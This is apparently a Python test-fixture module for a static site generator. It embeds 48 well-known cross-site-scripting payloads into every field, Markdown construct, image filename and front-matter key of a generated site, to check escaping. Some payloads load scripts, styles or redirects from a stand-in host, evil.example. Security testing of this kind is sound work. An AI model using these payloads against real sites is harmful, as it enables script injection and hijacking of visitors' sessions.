"""48 well-known ways to smuggle a script into a page, and a site that has each in every place."""

from __future__ import annotations

import re
from collections.abc import Iterable
from pathlib import Path
from urllib.parse import quote

from tests.image_files import encoded, two_halves

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/SRC=data:,alert(1)></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    "<img src=x:x onerror=&#97;lert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example/><input autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '" style="background:url(//evil.example/x)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java&#x09;script:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)

NOW = "2022-01-25"
_EVERYWHERE = "SITE PAYLOADS"
_REGISTRIES = """\
-- content/site.yaml --
name: {fi: 'SITE PAYLOADS'}
base_url: https://koe.example/
languages: [fi]
publisher: keino
contacts:
CONTACTS
archive: {from: 2022-01-01, notice: {fi: 'SITE PAYLOADS'}}
navigation: {header: [academies, news], footer: [pages/sivu-0]}
-- content/organisations.yaml --
keino: {name: 'SITE PAYLOADS'}
ORGANISATIONS
-- content/people.yaml --
palvelu: {name: Palvelu, organisation: keino, email: palvelu@koe.example}
PEOPLE
"""
_THINGS = """\
-- content/academies/akatemia-NUMBER/facts.yaml --
theme: vihrea
order: 1NUMBER
editions:
  - id: 2022
    application: {opens: 2021-01-17, last_day: 2021-02-11, form: 'https://lomake.example/?ADDRESS'}
    seats: {most: 6, unit: organisations}
    runs: 2022-03/2022-05
    stated_length: {fi: 'PAYLOAD'}
    info_sessions:
      - {id: info, date: 2022-01-24, time: unknown, online: false, place: {fi: 'PAYLOAD'}}
      - id: off
        date: 2022-01-26
        time: unknown
        status: {cancelled: true, reason: {fi: 'PAYLOAD'}}
    schedule:
      - {id: a, kind: interview, when: 2022-W05/2022-W07, title: {fi: 'PAYLOAD'}}
    participants: {from: 2022-01-01, organisations: [o-NUMBER]}
-- content/academies/akatemia-NUMBER/fi.md --
---
title: 'PAYLOAD'
short_title: 'PAYLOAD'
summary: 'PAYLOAD'
names: ['PAYLOAD']
---
-- content/news/uutinen-NUMBER/facts.yaml --
kind: note
date: 2022-01-17
-- content/news/uutinen-NUMBER/fi.md --
---
title: 'PAYLOAD uutinen'
summary: 'PAYLOAD'
---
"""
_PROSE = {  # by the place; RAW is the payload as it is, QUOTED as part of an address
    "sivu": "RAW\n\n## RAW\n\n- RAW\n\n> RAW\n\na | b\n--- | ---\nRAW | x\n\n"
    "    RAW\n\n`RAW`\n\nRAW\n: RAW",
    "linkki": "[RAW](RAW)",
    "kulmat": "[x](<RAW>)",
    "nimi": '[x](https://ok.example/ "RAW")',
    "viite": "[x][y]\n\n[y]: RAW",
    "auto": "<RAW>",
    "maare": "*x*{: title='RAW' RAW }\n\n## x {: #RAW }",
    "aita": "```RAW\nRAW\n```",
    "kuva": "![RAW](QUOTED.png)",
    "alaviite": "x[^RAW]\n\n[^RAW]: RAW",
    "huomio": '!!! note "RAW"\n    RAW',
    "osoite": "[x](https://ok.example/?QUOTED#RAW)",
}


def hostile_site() -> str:
    """Return a site, as changes to nothing, with each payload in each value of its own."""
    lines = [_yaml(payload) for payload in PAYLOADS]
    everything = _yaml(" ".join(PAYLOADS))
    people = "\n".join(
        f"p-{n}: {{name: '{one}', role: {{fi: '{one}'}}, organisation: keino, phone: '{one}'}}"
        for n, one in enumerate(lines)
    )
    contacts = "\n".join(
        f"  - {{person: p-{n}, about: {{fi: '{one}'}}}}" for n, one in enumerate(lines)
    )
    organisations = "\n".join(f"o-{n}: {{name: '{one}'}}" for n, one in enumerate(lines))
    text = _REGISTRIES.replace("CONTACTS", contacts).replace("ORGANISATIONS", organisations)
    text = text.replace("PEOPLE", people).replace(_EVERYWHERE, everything)
    text += "-- content/pages/etusivu/facts.yaml --\nkind: home\n"
    text += f"-- content/pages/etusivu/fi.md --\n---\ntitle: Etu\nsummary: '{everything}'\n---\n"
    for number, payload in enumerate(PAYLOADS):
        things = _THINGS.replace("NUMBER", f"{number}").replace("PAYLOAD", _yaml(payload))
        text += things.replace("ADDRESS", _yaml(re.sub(r"\s", "", payload)))
    return text


def hostile_prose() -> str:
    """Return pages, as changes to a site, with each payload in each place of a text."""
    text = ""
    for number, payload in enumerate(PAYLOADS):
        for place, prose in _PROSE.items():
            body = prose.replace("RAW", payload).replace("QUOTED", quote(_name(payload), safe=""))
            text += f"-- content/pages/{place}-{number}/fi.md --\n---\ntitle: {place} {number}\n"
            text += f"---\n{body}\n"
    return text


def add_images(content: Path) -> None:
    """Put an image with each payload for its name beside the texts that show it."""
    data = encoded(two_halves(2, 2), "PNG")
    for number, payload in enumerate(PAYLOADS):
        (content / f"pages/kuva-{number}" / f"{_name(payload)}.png").write_bytes(data)


def refused_pages() -> str:
    """Return pages, as changes to the base site, whose front matter takes no payload."""
    text = ""
    for number, payload in enumerate(PAYLOADS):
        said = _yaml(payload)
        lines = {
            "slug": f"slug: '{said}'",
            "alias": f"aliases: ['{said}']",
            "translation": f"translation: '{said}'",
            "official": f"official: '{said}'",
            "key": f"'{said}': x",
        }
        for name, line in lines.items():
            text += f"-- content/pages/{name}-{number}/fi.md --\n---\ntitle: {name} {number}\n"
            text += f"{line}\n---\n"
    return text


def _yaml(text: str) -> str:
    return text.replace("'", "''")


def _name(payload: str) -> str:
    """Return a payload as a file may be named: without the one sign that no name has."""
    return payload.replace("/", "_")


def without(text: str, paths: Iterable[str]) -> str:
    """Return a site as text without some of its files."""
    gone = set(paths)
    parts = re.split(r"^(?=-- \S+ --$)", text, flags=re.MULTILINE)
    return "".join(
        part for part in parts if part.split(" ", 2)[1:2] and part.split()[1] not in gone
    )
